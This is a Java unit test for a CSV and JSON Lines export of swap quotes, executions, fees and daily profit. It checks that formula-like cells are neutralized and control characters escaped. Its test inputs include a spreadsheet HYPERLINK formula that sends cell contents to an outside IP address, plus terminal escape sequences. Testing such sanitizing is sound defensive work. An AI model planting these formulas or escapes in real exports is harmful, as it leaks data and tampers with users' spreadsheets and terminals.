package dev.kurs.service.export;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.reader.NamedCsvRecord;
import dev.kurs.journal.readmodel.ReadModelExport.DayLine;
import dev.kurs.journal.readmodel.ReadModelExport.ExecutionLine;
import dev.kurs.journal.readmodel.ReadModelExport.Fees;
import dev.kurs.journal.readmodel.ReadModelExport.Leg;
import dev.kurs.journal.readmodel.ReadModelExport.QuoteLine;
import dev.kurs.protocol.message.sbe.Side;
import dev.kurs.protocol.port.Executions.PnlDay;
import dev.kurs.protocol.port.Executions.Status;
import dev.kurs.protocol.port.QuoteArchive.State;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.math.BigInteger;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.HexFormat;
import java.util.List;
import java.util.Optional;
import java.util.function.Consumer;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class ExportRowsTest {
    private static final String FORMULA = "=HYPERLINK(\"http://198.51.100.7/?\"&A1,\"ok\")";

    private static String written(ExportFormat format, String clientRef, String partnerName, BigInteger amount) {
        StringWriter out = new StringWriter();
        ExportRows rows = new ExportRows(new PrintWriter(out), format);
        rows.quotes().accept(quote(clientRef, partnerName, amount));
        rows.flush();
        return out.toString();
    }

    private static QuoteLine quote(String clientRef, String partnerName, BigInteger amount) {
        return new QuoteLine(
                7,
                "0x07",
                Optional.of(clientRef),
                "55000000-0000-0000-0000-000000000003",
                partnerName,
                "USDT-IDRX",
                Side.SELL,
                "0x0a",
                new Leg("USDT", 6, amount),
                new Leg("IDRX", 2, amount),
                16_300_000_000_000_000L,
                1_000_000_000,
                250_000,
                new Fees(BigInteger.valueOf(500_000), BigInteger.valueOf(1_000_000), BigInteger.valueOf(-3)),
                1_795_132_800L,
                1_795_132_860L,
                State.OPEN);
    }

    private static NamedCsvRecord executed(Status status, boolean asQuoted, long block) {
        StringWriter out = new StringWriter();
        ExportRows rows = new ExportRows(new PrintWriter(out), ExportFormat.CSV);
        rows.executions()
                .accept(new ExecutionLine(
                        9,
                        quote("order 7", "Nusantara", BigInteger.TEN),
                        status,
                        asQuoted,
                        1_000_000_000,
                        250_000,
                        new Fees(BigInteger.valueOf(500_000), BigInteger.valueOf(400_000), BigInteger.valueOf(-2)),
                        BigInteger.TWO,
                        BigInteger.ONE,
                        "0x0c",
                        block,
                        4,
                        1_795_132_830L));
        rows.flush();
        return CsvReader.builder().ofNamedCsvRecord(out.toString()).stream()
                .findFirst()
                .orElseThrow();
    }

    /** A swap of other amounts than the quote's has neither its rate nor its fee, here as over HTTP. */
    @ParameterizedTest
    @CsvSource({
        "SETTLED, true, 7, 16300.000000000000, 0.250000, 0x0c, 7, 4",
        "SETTLED, false, 7, '', '', 0x0c, 7, 4",
        "FAILED, true, 7, '', '', 0x0c, 7, ''",
        "FAILED, true, 0, '', '', '', '', ''"
    })
    void shouldTellOfAnExecutionWhatThereIs(
            Status status,
            boolean asQuoted,
            long block,
            String rate,
            String fee,
            String hash,
            String number,
            String log) {
        NamedCsvRecord row = executed(status, asQuoted, block);

        assertEquals(
                List.of(rate, fee, hash, number, log),
                Stream.of("filled_rate", "total_fee_usd", "tx_hash", "block_number", "log_index")
                        .map(row::getField)
                        .toList());
        assertEquals(status == Status.SETTLED ? "1" : "", row.getField("destination_amount_raw"));
    }

    @Test
    void shouldTellEachFeeInItsToken() {
        NamedCsvRecord quoted = csv("order 7", "Nusantara", BigInteger.TEN);
        NamedCsvRecord executed = executed(Status.SETTLED, true, 7);

        assertEquals(List.of("0.500000", "1.000000", "-0.03", "500000", "1000000", "-3"), fees(quoted));
        assertEquals(List.of("0.500000", "0.400000", "-0.02", "500000", "400000", "-2"), fees(executed));
        assertEquals(List.of("", "", "", "", "", ""), fees(executed(Status.SETTLED, false, 7)));
    }

    private static List<String> fees(NamedCsvRecord row) {
        return Stream.of("_amount", "_amount_raw")
                .flatMap(kind ->
                        Stream.of("fixed_fee", "variable_fee", "spread_fee").map(fee -> fee + kind))
                .map(row::getField)
                .toList();
    }

    /** Whoever loads a file by its names gets them on a quiet day too. */
    @Test
    void shouldWriteTheNamesWhereThereAreNoRows() {
        StringWriter out = new StringWriter();
        ExportRows rows = new ExportRows(new PrintWriter(out), ExportFormat.CSV);
        Consumer<DayLine> unused = rows.days();
        rows.flush();

        assertTrue(out.toString().startsWith("date,partner_id,partner,pair,side,settled_count,"), out::toString);
        assertEquals(1, out.toString().lines().count());
    }

    @Test
    void shouldWriteADaysProfitSoThatItAddsUp() {
        StringWriter out = new StringWriter();
        ExportRows rows = new ExportRows(new PrintWriter(out), ExportFormat.CSV);
        rows.pnl()
                .accept(new PnlDay(
                        LocalDate.of(2026, 11, 20), true, 1_000_000_000, 7_000_000, -3, 4, -5, 6, -7_000_000, 8, 9));
        rows.flush();

        assertEquals("""
                date,closed,open_value_usd,spread_usd,fees_usd,inventory_revaluation_usd,hedging_usd,rebates_usd,gas_usd,pnl_usd,value_usd,swap_count,hedge_count
                2026-11-20,true,1000.000000,7.000000,0.000004,-0.000005,0.000006,-0.000003,-7.000000,0.000002,1000.000002,8,9
                """, out.toString().replace("\r\n", "\n"));
    }

    private static NamedCsvRecord csv(String clientRef, String partnerName, BigInteger amount) {
        String text = written(ExportFormat.CSV, clientRef, partnerName, amount);
        return CsvReader.builder().ofNamedCsvRecord(text).stream().findFirst().orElseThrow();
    }

    @ParameterizedTest
    @ValueSource(strings = {FORMULA, "+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\n=1", "\uFF1D1", "'=1", "'"})
    void shouldWriteNoCellThatASpreadsheetTakesForAFormula(String chosen) {
        NamedCsvRecord row = csv(chosen, chosen, BigInteger.ONE);

        assertEquals("'" + chosen, row.getField("client_ref"));
        assertEquals("'" + chosen, row.getField("partner"));
    }

    @ParameterizedTest
    @ValueSource(strings = {"order 7", "a=1", "1-2", "x\ty", "x\r\ny", " =1", "C:\\orders", "a\\\\b"})
    void shouldLeaveOtherTextsAsTheyAre(String chosen) {
        assertEquals(chosen, csv(chosen, chosen, BigInteger.ONE).getField("client_ref"));
    }

    /** A NUL ends a row for some readers, and an escape begins a command for a terminal. */
    @ParameterizedTest
    @CsvSource({
        "78 00 79, x\\u0000y",
        "1b 5b 32 4a, \\u001b[2J",
        "c2 9b 32 4a, \\u009b2J",
        "7f, \\u007f",
        "e2 80 ae 78, \\u202ex",
        "e2 80 a8 78, \\u2028x",
        "5c 07, \\\\\\u0007",
        "5c 75 30 30 30 37, \\\\u0007"
    })
    void shouldWriteControlCharactersAsJsonDoes(String utf8, String written) {
        byte[] bytes = HexFormat.ofDelimiter(" ").parseHex(utf8);
        String chosen = new String(bytes, StandardCharsets.UTF_8);

        assertEquals(written, csv(chosen, chosen, BigInteger.ONE).getField("client_ref"));
    }

    @Test
    void shouldLeaveNumbersAlone() {
        NamedCsvRecord row = csv("order 7", "Nusantara", BigInteger.valueOf(-1_500_000));

        assertEquals("-1.500000", row.getField("source_amount"));
        assertEquals("-1500000", row.getField("source_amount_raw"));
    }

    @Test
    void shouldWriteJsonLinesExactly() {
        String line = written(ExportFormat.JSONL, "=1\0", "@desk", BigInteger.ONE);

        assertTrue(line.contains("\"client_ref\":\"=1\\u0000\""), line);
        assertTrue(line.contains("\"partner\":\"@desk\""), line);
    }
}
